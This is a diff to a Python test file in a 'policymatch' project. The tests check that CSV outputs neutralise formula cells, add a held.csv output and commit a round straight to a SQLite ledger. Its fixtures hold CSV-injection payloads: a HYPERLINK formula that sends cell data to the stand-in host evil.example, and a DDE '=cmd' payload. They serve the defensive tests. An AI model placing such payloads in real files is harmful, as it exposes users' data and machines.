@@ -19,11 +19,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from policymatch.cli import main
+from policymatch.rounds.ledger import Ledger
 from policymatch.rounds.outputs import neutralised, restore, write_csv
 from policymatch.rounds.tables import Column, Kind, make_table
 from tests.hostile.outputs.conftest import WriteRound
-from tests.rounds.helpers import Rejected
+from tests.rounds.helpers import Rejected, read_entry
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"点此核对")',
@@ -44,7 +44,8 @@ NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
 @pytest.fixture
 def folder(write_round: WriteRound, tmp_path: Path) -> Path:
     rejected = [Rejected(12, "=cmd|' /C calc'!A0", "-1 is not a date")]
-    return write_round(HOSTILE, tmp_path / "out", rejected)
+    # 己 and 庚 without an account: their grants (hostile names) go to held.csv
+    return write_round(HOSTILE, tmp_path / "out", rejected, held={5, 6})
 
 
 def _rows(path: Path) -> list[list[str]]:
@@ -54,7 +55,8 @@ def _rows(path: Path) -> list[list[str]]:
 
 def test_no_csv_cell_is_a_formula(folder: Path) -> None:
     files = sorted(folder.glob("*.csv"))
-    assert len(files) == 8
+    assert len(files) == 9  # held.csv too
+    assert len(_rows(folder / "held.csv")) > 1
     seen = set()
     for path in files:
         for row in _rows(path)[1:]:
@@ -73,8 +75,10 @@ def test_grants_csv_reads_back_the_registry_names(folder: Path) -> None:
 
 
 def test_commit_records_the_names_unchanged(folder: Path, tmp_path: Path) -> None:
+    # The round was drafted from registry records in memory, not a file commit could read
+    # again: committed as commit does once the registry checks out (read_round, then commit).
     ledger = tmp_path / "ledger.sqlite"
-    assert main(["commit", str(folder), "--ledger", f"sqlite:///{ledger}"]) == 0
+    Ledger(f"sqlite:///{ledger}").commit(read_entry(folder))
     with sqlite3.connect(ledger) as db:
         recorded = {name for (name,) in db.execute("select name from pm_grants")}
     assert recorded
